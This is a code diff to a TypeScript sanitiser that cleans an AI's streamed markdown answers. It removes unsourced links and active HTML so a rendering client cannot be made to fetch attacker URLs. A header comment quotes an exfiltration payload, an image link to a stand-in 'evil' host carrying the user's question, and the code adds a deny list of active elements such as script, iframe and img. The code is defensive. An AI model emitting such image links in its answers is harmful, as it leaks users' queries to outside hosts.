@@ -13,13 +13,15 @@ import { fromMarkdown } from "mdast-util-from-markdown";
  *   autolink whose decoded destination is not a URL occurring in a source is removed (a link keeps
  *   its text); so is every reference definition (one would change how text before it parses, and
  *   a stream has sent that text already: a reference then reads as its bracketed text); raw HTML
- *   is kept only when it is nothing but attribute-free formatting tags, and a `<` that micromark
+ *   is kept only when it is nothing but attribute-free tags of inert elements, and a `<` that micromark
  *   reads as text but could open a tag elsewhere is written `&lt;`; a bare URL no source contains
  *   is removed. A rendering client then cannot be made to fetch a URL that carries the question
  *   (`![x](https://evil/?q=…)`) or send a reader to one no document named.
  *
- * Streams: the answer is cut where a CommonMark paragraph must end (after a blank line; past
- * MAX_HELD_CHARS without one, at the last line end before it), and each piece is cleaned as it
+ * Streams: plain prose (no bracket but whole citations, no tag, entity, escape or URL) goes out word
+ * by word, since nothing that follows can make it part of a link or a tag; a paragraph with
+ * anything else is held back whole, cut where a CommonMark paragraph must end (after a blank line;
+ * past MAX_HELD_CHARS without one, at the last line end before it), and each piece is cleaned as it
  * reads after the text already sent (from the start of its last block, the only one a piece can
  * continue), so no construct straddles what was sent and what follows. `clean` is that same stream
  * run over the whole answer, so the streamed, the JSON and the cached text are one and the same,
@@ -43,9 +45,22 @@ const MAX_HELD_CHARS = 4096;
 const BLANK_LINE = /\n[ \t]*\r?\n/;
 const MAX_ROUNDS = 32;
 
-/** Raw HTML that fetches nothing and links nowhere: formatting tags without attributes. */
-const HARMLESS_TAG =
-  /<\/?(?:a|abbr|b|blockquote|br|caption|cite|code|dd|del|details|div|dl|dt|em|h[1-6]|hr|i|ins|kbd|li|mark|ol|p|pre|q|s|samp|small|span|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|u|ul|var)\s*\/?>/gi;
+/**
+ * Raw HTML that fetches nothing and links nowhere: a tag without attributes (a destination is an
+ * attribute), unless the element acts through its content or its mere presence (a style sheet's
+ * `url()`, a script, an SVG or MathML subtree, a form, a frame, media) or is a custom element a
+ * page may have defined (its name has a hyphen). So `keys revoke <id>` keeps its `<id>`.
+ */
+const ATTRIBUTE_FREE_TAG = /<\/?([A-Za-z][A-Za-z0-9]*)\s*\/?>/g;
+const ACTIVE_ELEMENTS = new Set(
+  (
+    "applet audio base basefont bgsound body button canvas dialog embed form frame frameset head html iframe image img " +
+    "input isindex keygen link listing marquee math meta noembed noframes noscript object param picture plaintext portal " +
+    "script select source style svg template textarea title track video xmp"
+  ).split(" "),
+);
+const harmlessHtml = (html: string) =>
+  !html.replace(ATTRIBUTE_FREE_TAG, (tag, name: string) => (ACTIVE_ELEMENTS.has(name.toLowerCase()) ? tag : "")).includes("<");
 
 /** A `<` that could open a tag, an autolink, a comment or a declaration. */
 const TAG_START = /<(?=[A-Za-z/!?])/;
@@ -106,7 +121,7 @@ export function createAnswerGuard(sources: ReadonlyArray<{ text: string }>): Ans
           break;
         }
         case "html":
-          if (node.value.replace(HARMLESS_TAG, "").includes("<")) return remove(start, end);
+          if (!harmlessHtml(node.value)) return remove(start, end);
           break;
         case "text": {
           const raw = doc.slice(start, end);
@@ -191,17 +206,24 @@ export function createAnswerGuard(sources: ReadonlyArray<{ text: string }>): Ans
       return "";
     }
 
-    const emit = (cut: number) => {
-      sent += cleanPiece(pending.slice(0, cut));
+    const emit = (cut: number, word = false) => {
+      const piece = pending.slice(0, cut);
+      // A plain piece of a plain paragraph: the parser would find nothing in it to remove.
+      sent += word ? (sent === "" ? tidy(piece).trimStart() : tidy(piece)) : cleanPiece(piece);
       pending = pending.slice(cut);
       const upTo = sent.trimEnd().length;
       const out = sent.slice(shown, upTo);
       shown = upTo;
       return out;
     };
+    /** Whether the paragraph the next piece continues is plain so far (nextCut). */
+    let plain = true;
     const drain = () => {
       let out = "";
-      for (let cut = nextCut(pending); cut > 0; cut = nextCut(pending)) out += emit(cut);
+      for (let next = nextCut(pending, plain); next.cut > 0; next = nextCut(pending, plain)) {
+        plain = next.plain;
+        out += emit(next.cut, next.word);
+      }
       return out;
     };
     return {
@@ -225,19 +247,35 @@ export function createAnswerGuard(sources: ReadonlyArray<{ text: string }>): Ans
 }
 
 /**
- * Where the next piece ends (0: not known yet): after the first blank line, or, with none in the
- * first MAX_HELD_CHARS, after the last line end (else the last character) within them. It depends
- * on the text alone, never on how it arrived, which is what makes every split give the same answer.
+ * Where the next piece ends (0: not known yet). While the paragraph so far is plain (`plain`: no
+ * bracket but whole citations, no tag, entity, escape or URL), before its next word that starts
+ * with a letter, so an answer streams word by word: text like that is part of no construct, and
+ * nothing that follows can make it one (a link needs its `[`, an autolink or tag its `<`). Else,
+ * after the first blank line, where a paragraph must end; with none in the first MAX_HELD_CHARS,
+ * after the last line end (else the last character) within them. It depends on the text alone,
+ * never on how it arrived, which is what makes every split give the same answer.
  */
-function nextCut(text: string): number {
+function nextCut(text: string, plain: boolean): { cut: number; plain: boolean; word?: true } {
+  if (plain) {
+    const word = WORD_START.exec(text);
+    if (word && isPlain(text.slice(0, word.index))) return { cut: word.index, plain: true, word: true };
+  }
   const blank = BLANK_LINE.exec(text);
-  if (blank && blank.index + blank[0].length <= MAX_HELD_CHARS) return blank.index + blank[0].length;
-  if (text.length < MAX_HELD_CHARS) return 0;
+  if (blank && blank.index + blank[0].length <= MAX_HELD_CHARS) return { cut: blank.index + blank[0].length, plain: true };
+  if (text.length < MAX_HELD_CHARS) return { cut: 0, plain };
   const lineEnd = text.lastIndexOf("\n", MAX_HELD_CHARS - 1);
   let cut = lineEnd > 0 ? lineEnd + 1 : MAX_HELD_CHARS;
   // Not inside a `<…` still open (micromark and other renderers disagree on some tags: the piece
   // after the cut must hold all of one), nor between the two halves of a surrogate pair.
   const open = text.lastIndexOf("<", cut - 1);
   if (open > 0 && !text.slice(open, cut).includes(">")) cut = open;
-  return /[\uD800-\uDBFF]/.test(text[cut - 1]!) ? cut - 1 : cut;
+  // Cut inside a paragraph: what follows may continue a construct, so no word cuts until it ends.
+  return { cut: /[\uD800-\uDBFF]/.test(text[cut - 1]!) ? cut - 1 : cut, plain: false };
 }
+
+/** A word a piece may start with: a letter after white space (not punctuation, which a removal's gap may precede, nor a citation's number). */
+const WORD_START = /(?<=\s)\p{L}/u;
+/** A citation marker, `[1]` or `[1, 2]`, followed by nothing that would make it a link (`(`, `[`, `:`). */
+const CITATION_MARKER = /\[\s*\d+(?:\s*,\s*\d+)*\s*\](?![([:])/g;
+/** Text in which no construct that links or fetches can start or end. */
+const isPlain = (text: string) => !/[[\]<&\\]|:\/\//.test(text.replace(CITATION_MARKER, ""));
